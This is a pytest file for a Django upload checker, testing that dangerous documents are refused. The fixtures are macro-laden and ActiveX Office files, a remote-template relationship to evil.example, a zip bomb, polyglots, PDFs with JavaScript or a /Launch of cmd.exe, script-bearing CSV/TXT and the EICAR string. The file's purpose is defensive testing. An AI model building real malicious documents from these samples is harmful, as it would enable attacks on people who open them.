"""Files of an accepted type that do harm are refused, each in a sentence."""

import io
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import override
from openpyxl import Workbook

from accounts.uploads import checked, harm_in
from tests.clamd import EICAR, clamd, standing_in

TYPES = '<Types><Override ContentType="application/{}"/></Types>'
PLAIN = TYPES.format("vnd.openxmlformats-officedocument.wordprocessingml.document")
PROGRAMS = "The file holds macros or programs: save it without them."
TWO = "This file is two files in one: only one was expected."
DAMAGED = "The file is damaged: open it and save it again."
LARGE = "The file is too large once unpacked."
ACTS = "The PDF holds scripts or starts programs: print it as a PDF again."
PAGE = "This is a web page, not a text or a table."
FETCHES = "The file fetches its template or its data elsewhere: save it without."


def packed(types=PLAIN, **parts):
    """A Word file with these parts, named with __ for a slash and _ for a point."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<w:document/>")
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return data.getvalue()


def relation(kind, mode="External"):
    return (
        f'<Relationships><Relationship Id="r1" Type="http://x/{kind}"'
        f' Target="http://evil.example/a.dotm" TargetMode="{mode}"/></Relationships>'
    )


def with_object_stream(code):
    stream = zlib.compress(code)
    return b"%PDF-1.7\n1 0 obj <</Type/ObjStm/Filter/FlateDecode>>\nstream\n" + stream


MACRO_TYPE = "vnd.ms-word.document.macroEnabled.main+xml"
HARMFUL = [
    ("docx", packed(TYPES.format(MACRO_TYPE)), PROGRAMS),
    ("docx", packed(word__vbaProject_bin="x"), PROGRAMS),
    ("docx", packed(word__activeX__activeX1_xml="x"), PROGRAMS),
    ("docx", packed(word__embeddings__oleObject1_bin="x"), PROGRAMS),
    ("xlsx", packed(xl__macrosheets__sheet1_xml="<x/>"), PROGRAMS),
    ("xlsx", packed(xl__externalLinks__externalLink1_xml="<ddeLink/>"), PROGRAMS),
    ("odt", packed(Basic__Standard__Module1_xml="x"), PROGRAMS),
    ("docx", packed(word__media__setup_exe="MZ"), PROGRAMS),
    ("docx", packed(word___rels__s_rels=relation("attachedTemplate")), FETCHES),
    ("docx", packed(word__media__zero_bin=b"\0" * 63_000_000), LARGE),
    ("docx", packed(word__styles_xml="<!DOCTYPE x><x/>"), DAMAGED),
    ("docx", packed(word__styles_xml=" " * 65_530 + "<!DOCTYPE x><x/>"), DAMAGED),
    ("docx", packed()[:-30], DAMAGED),
    ("docx", packed() + packed(), TWO),
    ("pdf", b"%PDF-1.7\n" + packed(), TWO),
    ("png", b"\x89PNG\r\n\x1a\n" + packed(), TWO),
    ("pdf", b"%PDF-1.7 <</S /JavaScript /JS (app.alert(1))>>", ACTS),
    ("pdf", b"%PDF-1.7 <</S /J#61vaScript /JS (app.alert(1))>>", ACTS),
    ("pdf", b"%PDF-1.7 <</S /Launch /F (cmd.exe)>>", ACTS),
    ("pdf", with_object_stream(b"<</S/JavaScript/JS(app.alert(1))>>"), ACTS),
    ("txt", b"\xef\xbb\xbf \n<!DOCTYPE html><script>", PAGE),
    ("csv", b"<SVG onload=alert(1)>", PAGE),
    ("doc", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le"), PROGRAMS),
]


@pytest.mark.parametrize(("extension", "content", "sentence"), HARMFUL)
def test_a_file_that_does_harm_is_refused_in_a_sentence(extension, content, sentence):
    with override("en"):
        assert harm_in(io.BytesIO(content), extension) == sentence


def workbook():
    data = io.BytesIO()
    Workbook().save(data)
    return data.getvalue()


@pytest.mark.parametrize(
    ("extension", "content"),
    [
        ("docx", packed(word___rels__s_rels=relation("hyperlink"))),
        ("docx", packed(word___rels__s_rels=relation("attachedTemplate", "Internal"))),
        ("docx", packed(word__embeddings__Sheet1_xlsx=workbook())),
        ("xlsx", workbook()),
        ("pdf", with_object_stream(b"<</Type/Page>>")),
        ("csv", "Numéro;Objet\n1;<b>Transit</b>".encode()),
        ("doc", b"\xd0\xcf\x11\xe0 letter"),
    ],
)
def test_what_people_write_every_day_is_taken(extension, content):
    assert harm_in(io.BytesIO(content), extension) == ""


def refusal(name, content):
    with override("en"), pytest.raises(ValidationError) as refused:
        checked(SimpleUploadedFile(name, content))
    return refused.value.messages


@pytest.mark.parametrize("scanner", [clamd, standing_in])
def test_the_anti_virus_refuses_what_it_knows_and_lets_the_rest_pass(scanner, settings):
    with scanner() as settings.CLAMD_URL:
        assert checked(SimpleUploadedFile("a.txt", b"x" * 200_000)).extension == "txt"
        assert refusal("a.txt", EICAR) == ["The anti-virus refuses this file."]


def test_no_file_is_taken_while_the_anti_virus_is_away(settings, tmp_path):
    settings.CLAMD_URL = f"unix://{tmp_path}/nobody"
    away = ["Files cannot be checked for viruses just now: try again later."]

    assert refusal("a.txt", b"hello") == away


@pytest.mark.parametrize(
    ("address", "data"),
    [
        ("/en/meetings/{year}/{pk}/papers/add/", {"title": "X"}),
        ("/en/meetings/{year}/import/", {}),
    ],
)
def test_every_door_for_files_asks_the_anti_virus(
    client, officer, meeting, settings, address, data
):
    client.force_login(officer)
    file = SimpleUploadedFile("a.csv", EICAR)
    address = address.format(year=meeting.programme.year, pk=meeting.pk)
    with standing_in() as settings.CLAMD_URL:
        page = client.post(address, {**data, "file": file})

    assert page.status_code == 200
    assert "anti-virus refuses this file" in page.content.decode()
